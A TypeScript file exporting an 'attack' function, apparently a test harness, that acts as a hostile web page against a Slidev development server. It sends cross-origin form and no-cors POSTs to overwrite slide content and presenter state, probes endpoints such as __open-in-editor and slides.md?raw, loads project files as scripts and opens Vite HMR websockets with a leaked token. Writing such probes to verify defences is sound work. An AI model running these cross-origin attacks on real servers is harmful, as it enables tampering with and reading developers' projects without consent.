/** A foreign page's knowledge: the deck's address, and tokens as if leaked. */
export interface Target { deck: string, token?: string, files: string[] }

/** Tries in the browser all that a foreign page can; returns what it reached. */
export async function attack({ deck, token, files }: Target): Promise<string[]> {
  const reached: string[] = []
  const slide = `${deck}__slidev/slides/2.json`
  const form = document.createElement('form')
  form.innerHTML = `<textarea name='{"content":"# x","x":"'>"}</textarea>`
  Object.assign(form, { action: slide, method: 'post', enctype: 'text/plain', target: 'frame' })
  const frame = document.createElement('iframe')
  frame.name = 'frame'
  document.body.append(frame, form)
  form.submit()
  await new Promise(resolve => frame.addEventListener('load', resolve, { once: true }))
  frame.src = `${deck}presenter/5`
  await new Promise(resolve => frame.addEventListener('load', resolve, { once: true }))

  const body = '{"content":"# x"}'
  const patch = '{"patch":{"page":5,"clicks":0,"lastUpdate":{"id":"x","type":"presenter","time":9e15}}}'
  await fetch(slide, { method: 'POST', mode: 'no-cors', body })
  await fetch(`${deck}@server-reactive/nav`, { method: 'POST', mode: 'no-cors', body: patch })
  for (const path of ['', '__open-in-editor?file=slides.md', '@slidev-monaco-types/load?root=/', 'slides.md?raw', ...files])
    await fetch(deck + path).then(({ ok, status }) => ok && reached.push(`${path}: ${status}`), () => {})
  for (const path of files) {
    const script = Object.assign(document.createElement('script'), { type: 'text/javascript', src: deck + path })
    document.head.append(script)
    await new Promise<void>((resolve) => {
      script.onerror = () => resolve()
      script.onload = () => {
        reached.push(`script ${path}`)
        resolve()
      }
    })
  }

  for (const protocol of ['vite-hmr', 'vite-ping']) {
    await new Promise<void>((resolve) => {
      const socket = new WebSocket(`${deck.replace('http', 'ws')}?token=${token}`, protocol)
      socket.onerror = () => resolve()
      socket.onopen = () => {
        reached.push(protocol)
        resolve()
      }
    })
  }
  return reached
}
